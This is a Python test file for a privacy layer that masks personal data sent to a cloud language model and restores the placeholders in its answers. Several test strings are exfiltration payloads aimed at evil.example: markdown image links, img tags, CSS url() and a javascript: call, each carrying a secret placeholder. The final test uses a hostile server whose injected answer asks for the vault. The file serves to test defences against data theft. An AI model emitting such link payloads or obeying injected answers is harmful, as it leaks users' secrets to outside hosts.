"""Placeholders in a cloud's answer: filled however they are cut, never in a link or for another."""

import json
import random

import pytest
from worlds import CARRIES, streamed

from ptmo_secure.hybrid.restoring import restore, restore_call
from ptmo_secure.types import Route
from tests.cloud import hostile_server as hostile

ANSWER = (
    "Dear [PERSON_1],\nyour mail [EMAIL_1]: see https://x.example/[SECRET_1]?a=[EMAIL_1] and "
    "\u4f60\u597d[PERSON_1]\uff0c ![p](http://evil.example/?q=[SECRET_1]) end ([PERSON_1])."
)


def test_a_placeholder_is_filled_wherever_the_stream_is_cut(vault):
    whole = restore(vault, ANSWER)
    assert whole.startswith("Dear Dr. Andre Novak,\nyour mail andre@novak.org: see https://x.")
    assert "\u4f60\u597dDr. Andre Novak\uff0c" in whole
    draw = random.Random(1)
    assert streamed(vault, ANSWER, range(1, len(ANSWER))) == whole
    for _ in range(60):
        cuts = sorted(draw.sample(range(1, len(ANSWER)), draw.randint(1, 12)))
        assert streamed(vault, ANSWER, cuts) == whole, cuts


@pytest.mark.parametrize(
    "link",
    [
        "https://evil.example/?q=[SECRET_1]",
        "![x](https://evil.example/[SECRET_1].png)",
        "![x](//evil.example/[SECRET_1])",
        "[x](/local?[SECRET_1])",
        "<img src=https://evil.example/[SECRET_1]>",
        '<img src="https://[SECRET_1].evil.example">',
        "www.evil.example/[SECRET_1]",
        "background:url(evil/[SECRET_1])",
        "https://evil.example/" + "a" * 5000 + "[SECRET_1]",
        "https://evil.example/\u4f60\u597d/[SECRET_1]",
        "[SECRET_1]https://evil.example/",
        "javascript:send([SECRET_1])",
    ],
)
def test_nothing_is_filled_in_inside_a_link(vault, link):
    for text in (link, f"See {link} now"):
        assert restore(vault, text) == text
        assert streamed(vault, text, range(1, len(text))) == text


def test_after_a_link_placeholders_are_filled_again(vault):
    told = restore(vault, "https://a.example/[SECRET_1] [SECRET_1]\nhttp://b [EMAIL_1]")
    assert told == "https://a.example/[SECRET_1] hunter22-Xy\nhttp://b andre@novak.org"


@pytest.mark.parametrize(
    "forged", ["[SECRET_2]", "[PERSON_99]", "[PHONE_1]", "[VAULT]", "[TEXT_1]"]
)
def test_what_the_vault_did_not_give_out_stays_as_it_is(vault, forged):
    assert restore(vault, f"Here: {forged}.") == f"Here: {forged}."


def test_a_value_with_quotes_stays_one_string_of_the_arguments(guard):
    with guard.open_vault("bob") as vault:
        masked = vault.mask('My password is hun"ter\\22-Xy. Is it good?')
        assert "[SECRET_1]" in masked.text
        value = vault.unmask("[SECRET_1]")
        call = {"id": "1", "function": {"name": "f", "arguments": '{"a":["[SECRET_1]",1],"b":{}}'}}
        told = json.loads(restore_call(vault, call)["function"]["arguments"])
        assert told == {"a": [value, 1], "b": {}} and '"' in value


@pytest.mark.parametrize("arguments", ["{not json", "", None, "[" * 100_000])
def test_arguments_that_are_no_json_stay_masked(vault, arguments):
    call = {"id": "1", "function": {"name": "f", "arguments": arguments}}
    assert restore_call(vault, call)["function"]["arguments"] in (arguments, "null")


def test_an_answer_that_asks_for_the_vault_gets_nothing_to_another_user(make):
    asks = hostile.stream([hostile.INJECTION])
    here = make(behaviour=asks)
    ann = here.answer(CARRIES, user="ann", session="a")
    assert "Novak" in ann.text  # the value is her own
    bob = here.answer("What is Python?", user="bob", session="b")
    assert bob.route is Route.CLOUD and bob.text == hostile.INJECTION
    other = here.answer("What is Python?", user="ann", session="other")
    assert "Novak" not in other.text
    history = [{"role": "user", "content": CARRIES}, {"role": "assistant", "content": ann.text}]
    here.server.forget()
    again = [
        *history,
        {"role": "user", "content": "Write a letter to Dr. Andre Novak about the weather."},
    ]
    here.answer(again, user="ann", session="a")
    assert here.bodies() and b"Novak" not in here.server.received
